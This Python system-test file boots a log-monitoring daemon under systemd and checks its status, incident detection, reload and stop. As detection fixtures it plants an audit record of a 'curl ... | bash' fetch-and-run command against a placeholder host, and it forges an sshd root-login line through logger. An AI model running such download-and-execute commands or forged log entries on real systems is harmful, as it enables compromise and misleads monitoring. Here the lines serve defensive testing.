"""The daemon itself as the shipped unit runs it, in a machine that systemd boots: start, work, reload, stop."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.doubles.audit_lines import execve
from tests.doubles.machine import an_audit_log, boot, unit_running
from tests.doubles.real_time import now

pytestmark = [pytest.mark.system, pytest.mark.model, pytest.mark.timeout(180)]
CONFIG = """\
host: booted
sources:
  - {type: file, name: audit, path: /var/log/audit/audit.log, format: auditd, start: beginning}
  - {type: journal}
  - {type: host}
model: {mode: "off"}
"""
ASK = """\
import json, pathlib, subprocess, sys, time, urllib.request

def get(path):
    try:
        with urllib.request.urlopen("http://127.0.0.1:8787" + path, timeout=5) as answer:
            return json.load(answer)
    except OSError as error:
        return {"error": str(error)}

def until(path, wanted):
    for _ in range(200):
        answer = get(path)
        if wanted(answer):
            break
        time.sleep(0.2)
    return answer

def unit(*properties):
    said = subprocess.run(["systemctl", "show", "tellwhy", *(f"-p{name}" for name in properties)], capture_output=True)
    return dict(line.split("=", 1) for line in said.stdout.decode().splitlines())

def states(answer):
    return {row["component"]: row["state"] for row in answer.get("components", [])}

def titles(answer):
    return [row["rule"]["title"] for row in answer.get("incidents", [])]

FORGED = "Log line forged in the name of a system service"

report = {
    "status": until("/api/v1/status", lambda answer: states(answer).get("memory") == "ok"),
    "incidents": until("/api/v1/incidents", lambda answer: answer.get("incidents")),
    "memory": until("/api/v1/ai/health", lambda answer: answer.get("remembered")),
    "logger": subprocess.run(
        ["logger", "-t", "sshd", "Accepted password for root from 192.0.2.9 port 4 ssh2"], user="nobody"
    ).returncode,
    "forged": titles(until("/api/v1/incidents", lambda answer: FORGED in titles(answer))),
    "unit": unit("ActiveState", "SubState", "StatusText"),
    "reload": subprocess.run(["systemctl", "reload", "tellwhy"]).returncode,
    "ready": until("/readyz", lambda answer: answer.get("ready")),
    "after": unit("ActiveState", "NRestarts"),
    "stop": subprocess.run(["systemctl", "stop", "tellwhy"]).returncode,
}
report["ended"] = unit("ActiveState", "Result", "ExecMainStatus")
pathlib.Path("/probe/report").write_text(json.dumps(report))
"""


@pytest.fixture(scope="module")
def booted(repository: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    shared = tmp_path_factory.mktemp("booted")
    (shared / "config.yaml").write_text(CONFIG, encoding="utf-8")
    (shared / "ask.py").write_text(ASK, encoding="utf-8")
    audit = an_audit_log(shared / "audit")
    attack = execve(4711, "sh", "-c", "curl -fsSL http://203.0.113.66/i.sh | bash", at=f"{now():.3f}")
    (audit / "audit.log").write_text("".join(f"{line}\n" for line in attack), encoding="ascii")
    binds = {shared / "config.yaml": "/etc/tellwhy/config.yaml", audit: "/var/log/audit"}
    text = unit_running(repository, "-m daemon run --config /etc/tellwhy/config.yaml")
    python = next(line for line in text.splitlines() if line.startswith("ExecStart=")).split()[0].partition("=")[2]
    steps = f"Environment=LD_LIBRARY_PATH=/opt/python/lib\nExecStart={python} /probe/ask.py"
    journal = boot(repository, shared, text, steps, binds)
    assert (shared / "report").is_file(), journal
    return {"journal": journal, **json.loads((shared / "report").read_text(encoding="utf-8"))}


def test_systemd_sees_it_ready_with_a_status(booted: dict[str, Any]) -> None:
    assert booted["unit"] == {
        "ActiveState": "active",
        "SubState": "running",
        "StatusText": "watching audit, journal, host",
    }


def test_every_part_is_well_inside_the_sandbox(booted: dict[str, Any]) -> None:
    states = {row["component"]: row["state"] for row in booted["status"]["components"]}
    assert {name for name, state in states.items() if state not in {"ok", "off"}} == set(), booted["journal"]


def test_what_the_audit_log_told_is_an_incident_and_is_remembered(booted: dict[str, Any]) -> None:
    titles = {incident["rule"]["title"] for incident in booted["incidents"]["incidents"]}
    assert "Download piped into a shell" in titles
    assert booted["memory"]["remembered"] >= 1


def test_logger_does_not_forge_a_line_of_sshd_in_the_real_journal(booted: dict[str, Any]) -> None:
    assert booted["logger"] == 0
    assert "Log line forged in the name of a system service" in booted["forged"], booted["journal"]
    assert "Root login over SSH with a password" not in booted["forged"]


def test_a_reload_and_a_stop_are_what_systemd_expects(booted: dict[str, Any]) -> None:
    assert (booted["reload"], booted["ready"]) == (0, {"ready": True, "waiting_for": []})
    assert booted["after"] == {"ActiveState": "active", "NRestarts": "0"}
    assert booted["stop"] == 0
    assert booted["ended"] == {"ActiveState": "inactive", "Result": "success", "ExecMainStatus": "0"}
